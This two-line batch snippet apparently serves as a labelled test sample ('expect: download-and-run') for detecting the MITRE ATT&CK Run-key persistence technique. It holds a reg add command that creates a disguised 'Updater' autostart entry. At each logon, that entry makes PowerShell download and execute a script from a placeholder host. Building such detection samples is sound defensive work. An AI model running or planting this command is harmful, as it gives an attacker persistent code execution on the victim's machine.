@rem expect: download-and-run | source: MITRE ATT&CK T1547.001
reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Updater /t REG_SZ /d "powershell -c iex(irm http://files.example.invalid/s)" /f
